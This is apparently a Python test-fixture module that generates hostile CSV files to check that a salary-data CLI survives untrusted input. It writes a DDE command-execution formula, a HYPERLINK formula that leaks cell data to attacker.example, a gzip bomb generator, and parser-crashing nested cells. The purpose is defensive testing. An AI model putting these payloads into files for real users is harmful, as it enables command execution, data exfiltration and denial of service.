"""The corpus of hostile files, and a probe that runs one CLI command on one of them.

Small cases are kept in this folder as files (real survey and postings rows,
spoiled one way each; ``python tests/data/hostile/corpus.py`` writes them
again). Cases that would be big on disk are generated: the gzip bomb (one
compressed block of real rows repeated as gzip members, so a 3.2 GB bomb is
written in seconds and takes a few MB) and the skills cells of 100,000
characters. Used by tests/workflows/test_hostile_cli.py and
benchmarks/hostile_files.py.
"""

from __future__ import annotations

import gzip
import os
import signal
import subprocess
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
DATA = ROOT / "data"
SURVEY = DATA / "aijobs_salaries_2020_2024.csv.gz"
POSTINGS = DATA / "data_jobs_2023_annual_salary.csv.gz"

# Skills cells from the issue: each crashed ast.literal_eval.
DEEP_NESTING = "[" * 100_000
MINUS_RUN = "[" + "-" * 100_000 + "1]"  # MemoryError in literal_eval
PLUS_CHAIN = "[" + "1+" * 50_000 + "1]"  # RecursionError in literal_eval
FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://attacker.example/?q="&A1,"click")')
DUPLICATES = 50_000

KEPT = {
    "formulas": "formulas.csv",
    "nul_bytes": "nul_bytes.csv",
    "mixed_encoding": "mixed_encoding.csv",
    "salaries_1e12": "salaries_1e12.csv",
    "duplicates": "duplicates.csv.gz",
}
GENERATED = ("gzip_bomb", "skills_deep_nesting", "skills_minus_run", "skills_plus_chain")
CASES = (*KEPT, *GENERATED)


def _text(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def write_kept(folder: Path = HERE) -> None:
    """Write the small cases from the shipped data (how the committed files were made)."""
    survey = _text(SURVEY).sample(200, random_state=24).reset_index(drop=True)
    spoiled = survey.copy()
    # 193 of 200 titles are formulas, as in the probed file.
    spoiled.loc[:192, "job_title"] = [FORMULAS[i % 2] for i in range(193)]
    spoiled.to_csv(folder / KEPT["formulas"], index=False)
    # A NUL byte past the first 4 KiB (the first bytes alone look like text).
    lines = survey.to_csv(index=False).encode().splitlines(keepends=True)
    nul = [line.replace(b",", b",\x00", 1) if i == 150 else line for i, line in enumerate(lines)]
    (folder / KEPT["nul_bytes"]).write_bytes(b"".join(nul))
    # A UTF-8 file with rows pasted from a latin-1 one: every other title.
    mixed = [_latin1_title(line) if i % 2 else line for i, line in enumerate(lines)]
    (folder / KEPT["mixed_encoding"]).write_bytes(b"".join(mixed))
    trillion = survey.copy()
    trillion["salary_in_usd"] = "1000000000000"
    trillion.to_csv(folder / KEPT["salaries_1e12"], index=False)
    one = survey.head(1)
    with gzip.open(folder / KEPT["duplicates"], "wt", newline="") as handle:
        handle.write(one.to_csv(index=False))
        row = one.to_csv(index=False, header=False)
        handle.write(row * (DUPLICATES - 1))


def _latin1_title(line: bytes) -> bytes:
    """A survey line whose title starts with a latin-1 (not UTF-8) word."""
    cells = line.split(b",", 4)
    cells[3] = "Donn\u00e9es ".encode("latin-1") + cells[3].lstrip(b'"')
    return b",".join(cells) if not line.split(b",", 4)[3].startswith(b'"') else line


def write_bomb(path: Path, decompressed_bytes: int) -> Path:
    """A .csv.gz of real survey rows (100, repeated) that expands to ``decompressed_bytes``
    or more.

    One block of rows is compressed once and written as many gzip members
    (a valid gzip stream: readers concatenate members), streaming to disk.
    """
    rows = _text(SURVEY).head(100).to_csv(index=False)
    header, _, body = rows.partition("\n")
    block = body.encode() * 200  # repeated rows: deflate stores each repeat in a few bytes
    member = gzip.compress(block, compresslevel=9)
    with path.open("wb") as handle:
        handle.write(gzip.compress((header + "\n").encode()))
        written = len(header) + 1
        while written < decompressed_bytes:
            handle.write(member)
            written += len(block)
    return path


def write_skills_case(path: Path, cell: str, rows: int = 120) -> Path:
    """Real postings rows whose skills cells all hold ``cell``."""
    postings = _text(POSTINGS).sample(rows, random_state=24)
    postings["job_skills"] = cell
    postings.to_csv(path, index=False)
    return path


def build(folder: Path, bomb_bytes: int) -> dict[str, Path]:
    """Every case as a file: the kept ones from this folder, the others written to ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    files = {name: HERE / file for name, file in KEPT.items()}
    files["gzip_bomb"] = write_bomb(folder / "gzip_bomb.csv.gz", bomb_bytes)
    cells = {
        "skills_deep_nesting": DEEP_NESTING,
        "skills_minus_run": MINUS_RUN,
        "skills_plus_chain": PLUS_CHAIN,
    }
    for name, cell in cells.items():
        files[name] = write_skills_case(folder / f"{name}.csv", cell)
    return files


@dataclass
class Probe:
    """One command on one file: exit status, peak memory, what it printed."""

    returncode: int
    peak_mb: float
    seconds: float
    stdout: str
    stderr: str
    killed_at_mb: float | None = None  # the watchdog's ceiling, when it had to stop it

    @property
    def traceback(self) -> bool:
        return "Traceback (most recent call last)" in self.stderr + self.stdout


def _memory_mb(pid: int) -> tuple[float, float]:
    """(resident, high-water mark) of a live process in MB; zeros once it is gone."""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0.0, 0.0
    found = {"VmRSS:": 0.0, "VmHWM:": 0.0}
    for line in status.splitlines():
        key = line.split(maxsplit=1)[0] if line else ""
        if key in found:
            found[key] = int(line.split()[1]) / 1024
    return found["VmRSS:"], found["VmHWM:"]


def sample_peak(
    pid: int, ceiling_mb: float, start: float, timeout: float, wait: Callable[[], object]
) -> tuple[float, float | None]:
    """Run ``wait()`` (until the child ``pid`` has exited) while sampling the child's
    memory every 50 ms; (peak MB, the ceiling when the child had to be killed past it
    or past ``timeout`` seconds from ``start``, else None)."""
    killed: list[float] = []
    peak = [0.0]
    done = threading.Event()

    def watch() -> None:
        while not done.wait(0.05):
            resident, high = _memory_mb(pid)
            peak[0] = max(peak[0], high, resident)
            if resident > ceiling_mb or time.perf_counter() - start > timeout:
                killed.append(ceiling_mb)
                os.kill(pid, signal.SIGKILL)
                return

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    # Sampled while the child lives: once it exits, /proc no longer has it.
    wait()
    done.set()
    watcher.join()
    return peak[0], killed[0] if killed else None


def probe(
    command: list[str], env: dict[str, str], cwd: Path, ceiling_mb: float, timeout: float = 900
) -> Probe:
    """Run ``command``; its peak RSS, killed past ``ceiling_mb`` (so probing the
    unpatched code cannot take the machine down).

    The peak is the child's own high-water mark (``VmHWM``, sampled every 50 ms), not
    ``wait4``'s ``ru_maxrss``: Linux carries the pre-exec image's high-water mark into
    it, and a child forked from a large test process (1 GB after a long suite) would
    report the parent's size. Only the last 50 ms of a run can escape the samples."""
    start = time.perf_counter()
    out_file, err_file = cwd / ".probe.out", cwd / ".probe.err"
    with out_file.open("w") as out, err_file.open("w") as err:
        child = subprocess.Popen(command, env=env, cwd=cwd, stdout=out, stderr=err)
        status = [0]

        def wait() -> None:
            status[0] = os.wait4(child.pid, 0)[1]

        peak, killed = sample_peak(child.pid, ceiling_mb, start, timeout, wait)
    child.returncode = os.waitstatus_to_exitcode(status[0])
    return Probe(
        returncode=child.returncode,
        peak_mb=peak,
        seconds=time.perf_counter() - start,
        stdout=out_file.read_text(errors="replace"),
        stderr=err_file.read_text(errors="replace"),
        killed_at_mb=killed,
    )


Commands = dict[str, Callable[[Path, Path], list[str]]]


def commands(cli: list[str]) -> Commands:
    """The three commands that read an untrusted file, as argument lists for ``cli``."""
    return {
        "retrain": lambda file, out: [*cli, "retrain", "--data", str(file)],
        "predict": lambda file, out: [
            *cli,
            "predict",
            "--input",
            str(file),
            "--output",
            str(out / "scored.csv"),
        ],
        "drift": lambda file, out: [*cli, "drift", "--data", str(file), "--output", str(out)],
    }


if __name__ == "__main__":
    write_kept()
